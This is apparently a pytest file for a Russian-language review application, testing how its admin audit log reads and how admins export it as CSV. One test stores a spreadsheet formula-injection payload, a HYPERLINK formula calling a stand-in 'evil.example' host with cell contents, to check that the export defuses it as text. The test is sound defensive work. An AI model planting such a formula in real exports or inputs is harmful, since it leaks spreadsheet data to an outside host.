"""The audit log for people: its entries in words (no stored keys, no ``cli``) and its CSV export for
admins (``routes/admin.audit_export``, ``review/downloads.py``)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from fastapi.testclient import TestClient

from classifier.queue import CaseStore
from review.helpers import audits, decide, row_of

BOM = "\ufeff"


def read_csv(response: object) -> list[list[str]]:
    text = response.content.decode("utf-8")  # type: ignore[attr-defined]
    assert text.startswith(BOM), "Excel in a Russian locale needs the mark to read UTF-8"
    return list(csv.reader(io.StringIO(text[len(BOM) :]), delimiter=";"))


def test_audit_entries_read_in_words(open_as: Callable[..., TestClient], store: CaseStore) -> None:
    store.log_audit("cli", "user_added", detail={"username": "gleb", "role": "expert"})
    store.log_audit("cli", "bank_import", detail={"lines": 3, "imported": 2, "errors": 1})
    html = open_as("anna").get("/admin/audit").text
    assert "<td>командная строка</td>" in html and "<td>cli</td>" not in html
    assert "учётная запись: gleb; роль: эксперт" in html
    assert "загрузка решённых ресурсов в базу магазинов" in html
    assert "строк в файле: 3; загружено: 2; ошибок: 1" in html
    for key in ("username:", "role:", "lines:", "imported:", "<td>bank_import</td>"):
        assert key not in html


def test_admins_export_the_filtered_audit_log_as_csv(
    open_as: Callable[..., TestClient], store: CaseStore, ids: dict[str, int]
) -> None:
    decide(open_as("boris"), ids["sale-1"], "confirmed", comment="проверено")
    # an older version stored whatever was typed at a failed login as the actor: a formula, for instance
    store.log_audit('=HYPERLINK("http://evil.example/?"&A1,"x")', "login_failed", detail={"ip": "10.0.0.9"})
    admin = open_as("anna")
    page = admin.get("/admin/audit", params={"action": "decision"}).text
    assert '<form class="export" method="get" action="/admin/audit.csv"' in page
    assert '<input type="hidden" name="action" value="decision">' in page
    response = admin.get("/admin/audit.csv", params={"action": "decision"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment;")
    header, *rows = read_csv(response)
    assert header == ["Когда (Алматы, UTC+5)", "Кто", "Действие", "Дело", "Подробности"]
    assert [(r[1], r[2], r[3]) for r in rows] == [("boris", "решение", str(ids["sale-1"]))]
    assert '"comment": "проверено"' in rows[0][4]
    everything = read_csv(admin.get("/admin/audit.csv"))
    typed = [r for r in everything if r[2] == "неудачный вход"]
    assert typed and typed[0][1].startswith("'=HYPERLINK("), "a formula cell must reach the sheet as text"
    # each export is in the log, with its filters and its size
    exports = audits(store, "export_audit")
    assert [e["actor"] for e in exports] == ["anna", "anna"]
    unfiltered, filtered = exports  # newest first
    assert filtered["detail"] == {"filters": {"action": "decision"}, "rows": 1}
    assert unfiltered["detail"]["rows"] == len(everything) - 1  # the header; the export lists itself


def test_the_audit_export_reads_past_one_batch_without_repeats(
    open_as: Callable[..., TestClient], store: CaseStore, monkeypatch: object
) -> None:
    from classifier.review.routes import admin

    monkeypatch.setattr(admin, "AUDIT_EXPORT_BATCH", 3)  # type: ignore[attr-defined]
    for n in range(8):
        store.log_audit("cli", "password_changed", detail={"username": f"user{n}"})
    rows = read_csv(open_as("anna").get("/admin/audit.csv", params={"action": "password_changed"}))[1:]
    assert [r[4] for r in rows] == [f'{{"username": "user{n}"}}' for n in reversed(range(8))]


def test_experts_get_no_audit_export(open_as: Callable[..., TestClient], store: CaseStore) -> None:
    response = open_as("boris").get("/admin/audit.csv")
    assert response.status_code == 403
    assert "text/csv" not in response.headers["content-type"]
    assert audits(store, "export_audit") == []


def test_a_decision_in_the_audit_log_has_no_double_brackets(
    open_as: Callable[..., TestClient], ids: dict[str, int]
) -> None:
    decide(open_as("boris"), ids["sale-1"], "confirmed", category="sale")
    row = row_of(open_as("anna").get("/admin/audit").text, ids["sale-1"])
    assert "нарушение подтверждено (сбыт);" in row
    assert ") (" not in row
